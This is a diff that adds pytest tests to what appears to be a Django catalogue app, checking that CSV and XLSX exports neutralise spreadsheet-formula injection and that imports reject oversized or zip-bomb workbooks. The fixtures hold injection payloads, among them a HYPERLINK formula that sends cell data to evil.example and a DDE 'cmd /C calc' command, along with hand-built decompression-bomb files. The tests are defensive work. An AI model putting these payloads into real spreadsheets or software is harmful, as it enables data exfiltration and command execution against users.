@@ -150,3 +150,163 @@ def test_2300_rows_in_seconds(center, row):
     result = import_rows(actor=None, center=center, rows=rows)
     assert result.created == 2300
     assert time.perf_counter() - started < 15
+
+
+FORMULAS = {
+    "measurand": '=HYPERLINK("http://evil.example/?"&A1,"压力")',
+    "instrument": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "conditions": "+1+1",
+    "branch": "-2+3",
+}
+
+
+@pytest.fixture
+def formula_center(center, row):
+    from metrohub.catalogue.services import publish_drafts
+
+    result = import_rows(actor=None, center=center, rows=[(2, row(500, **FORMULAS))])
+    assert result.created == 1, result.issues
+    publish_drafts(actor=None, center=center)
+    return center
+
+
+def _exported_line(rows, instrument):
+    found = [r for r in rows if r["instrument"].endswith(instrument)]
+    assert len(found) == 1
+    return found[0]
+
+
+def test_public_csv_export_writes_formulas_as_text(client, formula_center):
+    import csv
+
+    response = client.get("/catalogue/centers/CQ-AUTO/export.csv")
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    keys = [column.key for column in COLUMNS]
+    line = _exported_line([dict(zip(keys, r, strict=True)) for r in rows[1:]], "A0")
+    assert {key: line[key] for key in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)
+    assert line["range_lower"] == "0"
+
+
+def test_public_xlsx_export_holds_no_formula_cell(client, formula_center):
+    response = client.get("/catalogue/centers/CQ-AUTO/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content))[importing.SHEET]
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {"'" + v for v in FORMULAS.values()} <= values
+
+
+def test_search_export_is_neutralised_too(client, formula_center):
+    response = client.get("/catalogue/export.csv", {"q": "calc"})
+    assert "'@SUM(1+1)" in response.content.decode("utf-8-sig")
+
+
+def test_a_neutralised_export_imports_back_unchanged(formula_center):
+    lines = list(CapabilityLine.objects.filter(center=formula_center))
+    rows = importing.read_rows(_xlsx(importing.export_rows(lines)), filename="e.xlsx")
+    result = import_rows(actor=None, center=formula_center, rows=rows)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, len(lines))
+    line = CapabilityLine.objects.get(center=formula_center, instrument=FORMULAS["instrument"])
+    assert line.measurand == FORMULAS["measurand"]
+
+
+# --- bounded reading (huge sheets in small files) ------------------------------------------------
+
+
+def _sheet_xlsx(rows_xml, *, dimension: str = "A1:S1") -> bytes:
+    """A minimal workbook written by hand: the header, then the given <row> elements."""
+    import zipfile
+
+    cells = "".join(
+        f'<c r="{importing.get_column_letter(i)}1" t="inlineStr"><is><t>{c.header}</t></is></c>'
+        for i, c in enumerate(COLUMNS, start=1)
+    )
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        f'<dimension ref="{dimension}"/><sheetData><row r="1">{cells}</row>'
+    )
+    parts = {
+        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
+        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
+        "xl/workbook.xml": '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="能力目录" sheetId="1" r:id="rId1"/></sheets></workbook>',
+        "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+    }
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        for name, text in parts.items():
+            archive.writestr(name, text)
+        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
+            member.write(sheet.encode())
+            for chunk in rows_xml:
+                member.write(chunk.encode())
+            member.write(b"</sheetData></worksheet>")
+    return buffer.getvalue()
+
+
+def _tiny_rows(count: int):
+    for start in range(2, count + 2, 10_000):
+        yield "".join(
+            f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>校准</t></is></c></row>'
+            for n in range(start, min(start + 10_000, count + 2))
+        )
+
+
+def _peak(function):
+    import tracemalloc
+
+    tracemalloc.start()
+    try:
+        try:
+            outcome = function()
+        except importing.FileError as exc:
+            outcome = exc
+        return outcome, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_sheet_of_many_rows_stops_at_the_stated_limit(settings):
+    settings.LANGUAGE_CODE = "zh-hans"
+    data = _sheet_xlsx(_tiny_rows(60_000))
+    assert len(data) < 2 * 1024 * 1024
+    outcome, peak = _peak(lambda: importing.read_rows(data, filename="huge.xlsx", max_rows=2_000))
+    assert isinstance(outcome, importing.FileError)
+    assert str(outcome) == "文件超过 2,000 行；每次最多导入 2,000 行（请拆分文件）。"
+    assert peak < 16 * 1024 * 1024, f"{peak / 1048576:.0f} MiB"
+
+
+def test_empty_rows_claimed_by_a_tiny_sheet_are_not_walked_for_ever():
+    far = 1_000_000
+    data = _sheet_xlsx([f'<row r="{far}"><c r="A{far}" t="inlineStr"><is><t>x</t></is></c></row>'])
+    with pytest.raises(importing.FileError, match="2,000"):
+        importing.read_rows(data, filename="sparse.xlsx", max_rows=2_000)
+
+
+def test_a_forged_dimension_does_not_widen_the_rows(row):
+    values = [row(0).get(c.key, "") for c in COLUMNS]
+    cells = "".join(
+        f'<c r="{importing.get_column_letter(i)}2" t="inlineStr"><is><t>{v}</t></is></c>'
+        for i, v in enumerate(values, start=1)
+    )
+    data = _sheet_xlsx([f'<row r="2">{cells}</row>'], dimension="A1:XFD1048576")
+    rows = importing.read_rows(data, filename="wide.xlsx")
+    assert [(n, r["instrument"]) for n, r in rows] == [(2, "测试用数字压力计")]
+
+
+def test_a_workbook_that_inflates_beyond_the_bound_is_refused():
+    padding = (" " * 1024 * 1024 for _ in range(importing.max_uncompressed(100) // 1048576 + 1))
+    data = _sheet_xlsx(padding)
+    assert len(data) < 1024 * 1024
+    with pytest.raises(importing.FileError, match="16 MB"):
+        importing.read_rows(data, filename="bomb.xlsx", max_rows=100)
+
+
+def test_a_csv_of_too_many_rows_is_refused(row):
+    text = importing.csv_text([row(i) for i in range(101)])
+    with pytest.raises(importing.FileError, match="100"):
+        importing.read_rows(text.encode(), filename="x.csv", max_rows=100)
+    assert len(importing.read_rows(text.encode(), filename="x.csv", max_rows=101)) == 101
